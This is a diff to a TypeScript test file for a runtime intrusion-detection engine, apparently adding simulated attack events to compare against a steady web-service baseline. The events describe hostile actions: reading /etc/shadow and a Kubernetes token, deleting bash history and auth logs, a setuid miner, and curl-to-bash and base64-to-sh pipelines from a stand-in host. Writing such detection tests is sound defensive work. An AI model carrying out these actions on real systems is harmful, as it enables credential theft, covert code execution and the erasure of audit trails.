@@ -21,6 +21,8 @@ import {
 } from '../support/events.ts';
 
 // a steady web service: what the attack part is judged against
+const withPpid = <E extends RuntimeEvent>(ev: E, ppid: number): E => ({ ...ev, process: { ...ev.process, ppid } });
+
 const steady: RuntimeEvent[] = [
   exec('/usr/bin/app', { parents: ['/usr/bin/containerd-shim-runc-v2'] }),
   exec('/bin/sh', { args: ['sh', '-c', 'date'], parents: ['/usr/bin/app'] }),
@@ -313,6 +315,16 @@ describe('models/engine', () => {
         open('/var/run/secrets/kubernetes.io/serviceaccount/token', { exe: '/bin/cat' }),
         syscalls(['ptrace', 'mount', 'personality']),
         exec('/usr/bin/apt-get', { args: ['apt-get', 'install', '-y', 'nmap'] }),
+        exec('/var/tmp/.cache/sshd', { parents: ['/bin/sh'] }),
+        { ...write('/tmp/.x/miner', 'chmod'), mode: 0o4755 },
+        write('/root/.bash_history', 'unlink', { exe: '/bin/rm' }),
+        write('/var/log/auth.log', 'unlink', { exe: '/bin/rm' }),
+        open('/etc/shadow', { exe: '/bin/cat' }),
+        // two pipelines: curl | bash, base64 -d | sh (siblings: one parent each)
+        withPpid(exec('/usr/bin/curl', { pid: 5001, args: ['curl', '-s', 'http://127.66.6.6/i.sh'] }), 5000),
+        withPpid(exec('/bin/bash', { pid: 5002, args: ['bash'] }), 5000),
+        withPpid(exec('/usr/bin/base64', { pid: 5011, args: ['base64', '-d'] }), 5010),
+        withPpid(exec('/bin/sh', { pid: 5012, args: ['sh'] }), 5010),
       ];
       // a responder forbade wget for this workload (the graveyard): it alerts as forbidden-item
       for (const b of e.profiler.baselines.values()) b.forbid('exec', '/usr/bin/wget');
